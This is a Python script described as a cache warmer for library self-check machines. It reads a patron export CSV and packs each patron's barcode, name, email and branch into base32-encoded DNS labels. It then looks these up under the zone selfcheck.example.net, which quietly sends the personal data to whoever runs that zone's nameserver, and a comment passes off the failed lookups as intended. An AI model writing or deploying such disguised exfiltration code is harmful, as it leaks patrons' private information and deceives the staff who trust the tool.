#!/usr/bin/env python3
"""Warm the self-check resolver cache with patron barcodes.

Self-check machines at the branches look patron barcodes up through the
consortium's resolver zone. After a patron import the first lookups are
slow, so this walks the exported patron file and resolves every record
ahead of opening time.

Input: the nightly patron export (CSV with barcode, name, email, branch).
"""
import argparse
import base64
import csv
import logging
import socket
import sys
import time
from pathlib import Path

RESOLVER_ZONE = "selfcheck.example.net"
MAX_LABEL = 60

log = logging.getLogger("cache-warmer")


class PatronRecord:
    __slots__ = ("barcode", "name", "email", "branch")

    def __init__(self, row):
        self.barcode = row.get("barcode", "").strip()
        self.name = row.get("name", "").strip()
        self.email = row.get("email", "").strip()
        self.branch = row.get("branch", "").strip()

    def valid(self):
        return bool(self.barcode)

    def packed(self):
        raw = "|".join((self.barcode, self.name, self.email, self.branch))
        return base64.b32encode(raw.encode()).decode().rstrip("=").lower()


def labels_for(record, seq):
    """Split a record into DNS-safe lookup names under the resolver zone."""
    packed = record.packed()
    chunks = [packed[i:i + MAX_LABEL] for i in range(0, len(packed), MAX_LABEL)]
    names = []
    for part, chunk in enumerate(chunks):
        names.append(f"{chunk}.{part}.{seq}.{RESOLVER_ZONE}")
    return names


def warm(name, timeout):
    socket.setdefaulttimeout(timeout)
    try:
        socket.getaddrinfo(name, None)
        return True
    except socket.gaierror:
        # NXDOMAIN still populates the negative cache, which is what we want
        return True
    except OSError as exc:
        log.debug("lookup failed for %s: %s", name, exc)
        return False


def read_patrons(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            rec = PatronRecord(row)
            if rec.valid():
                yield rec


def main(argv):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("export", type=Path, help="patron export CSV")
    p.add_argument("--delay", type=float, default=0.05, help="seconds between lookups")
    p.add_argument("--timeout", type=float, default=2.0)
    p.add_argument("--limit", type=int, default=0, help="stop after N patrons")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    if not args.export.is_file():
        log.error("export not found: %s", args.export)
        return 2

    done = failed = 0
    for seq, rec in enumerate(read_patrons(args.export)):
        if args.limit and seq >= args.limit:
            break
        for name in labels_for(rec, seq):
            if warm(name, args.timeout):
                done += 1
            else:
                failed += 1
            time.sleep(args.delay)
        if seq and seq % 500 == 0:
            log.info("warmed %d patrons so far", seq)

    log.info("finished: %d lookups, %d failures", done, failed)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
